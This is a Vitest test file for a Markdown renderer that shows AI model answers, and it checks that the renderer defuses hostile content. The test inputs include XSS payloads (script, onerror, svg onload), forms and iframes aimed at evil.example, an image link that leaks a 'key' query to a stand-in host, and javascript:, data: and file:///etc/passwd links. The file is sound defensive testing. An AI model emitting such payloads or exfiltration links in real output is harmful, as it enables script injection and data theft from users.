// A model's answer is hostile text: nothing in it becomes markup, loads anything, or leads somewhere unseen.

import { Tooltip } from 'radix-ui';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { projectLink, safeLink, shownTarget } from './links';
import { Markdown } from './markdown';

const html = (text: string, streaming = false) =>
  renderToStaticMarkup(
    <Tooltip.Provider>
      <Markdown text={text} streaming={streaming} />
    </Tooltip.Provider>,
  );

test.each([
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  'a <b onclick="x()">b</b>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>*{display:none}</style>',
  '<svg onload=alert(1)>',
  '<form action="https://evil.example"><input></form>',
])('HTML stays text: %s', (text) => {
  for (const streaming of [false, true]) {
    const made = html(text, streaming);
    expect(made).not.toMatch(/<(img|script|b|iframe|style|svg|form|input)[\s>]/);
    expect(made).toContain('&lt;');
  }
});

test('images are never loaded', () => {
  for (const text of [
    '![secret](https://evil.example/?q=key)',
    '![r][1]\n\n[1]: https://evil.example/i.png',
    '[![a](https://evil.example/a.png)](https://evil.example)',
  ])
    expect(html(text)).not.toMatch(/<img|<picture|url\(/);
  expect(html('![chart](https://evil.example/i.png)')).toContain('image: chart');
});

test('links open apart and show where they lead', () => {
  const made = html('[your bank](https://evil.example/login)');
  expect(made).toContain('href="https://evil.example/login"');
  expect(made).toContain('target="_blank"');
  expect(made).toMatch(/rel="noopener noreferrer/);
  expect(made).toContain('(evil.example)');
  expect(html('https://example.org/a')).not.toContain('link-target');
});

test.each([
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,x',
  'vbscript:x',
  'file:///etc/passwd',
  '/api/models',
  '//evil.example',
  'blob:https://x/y',
  'https://bank.example@evil.example/',
])('no link to %s', (href) => {
  expect(safeLink(href)).toBeUndefined();
  expect(html(`[x](${href})`)).not.toMatch(/<a[\s>]/);
});

test('the address beside a link', () => {
  expect(shownTarget('https://a.example/', 'https://a.example')).toBeUndefined();
  expect(shownTarget('https://evil.example/', 'https://a.example')).toBe('evil.example');
  expect(shownTarget('mailto:a@b.example', 'write')).toBe('a@b.example');
});

test('prose looks like prose', () => {
  const made = html(
    '# Title\n\nSome **bold** `code`.\n\n- a\n- b\n\n```js\nlet a = "<b>";\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n',
  );
  expect(made).toContain('<h3 dir="auto">Title</h3>');
  expect(made).toContain('<strong>bold</strong>');
  expect(made).toContain('<code>code</code>');
  expect(made).toMatch(/<ul dir="auto">\s*<li dir="auto">a<\/li>/);
  expect(made).toContain('<code>let a = &quot;&lt;b&gt;&quot;;</code></pre>');
  expect(made).toContain('<td dir="auto" style="text-align:right">2</td>');
});

test('what is open while it streams is closed for now', () => {
  expect(html('Some **bo', true)).toContain('<strong>bo</strong>');
  expect(html('```js\nlet a', true)).toContain('<code>let a');
});

test('a relative link opens a file where there are files, and is text where there are none', () => {
  expect(html('[guide](docs/guide.md)')).not.toMatch(/<(a|button)[\s>]/);
  const made = renderToStaticMarkup(<Markdown text="[guide](docs/guide.md) [x](javascript:x)" openFile={() => {}} />);
  expect(made).toMatch(/<button[^>]*>guide<\/button>/);
  expect(made).not.toMatch(/<a[\s>]|javascript/);
  const paths = ['docs/my%20guide.md?x#y', '/src/a.ts', '#top', '//evil.example', 'javascript:x', 'a\\b', '%zz'];
  expect(paths.map(projectLink)).toEqual(['docs/my guide.md', '/src/a.ts', ...Array(5).fill(undefined)]);
});
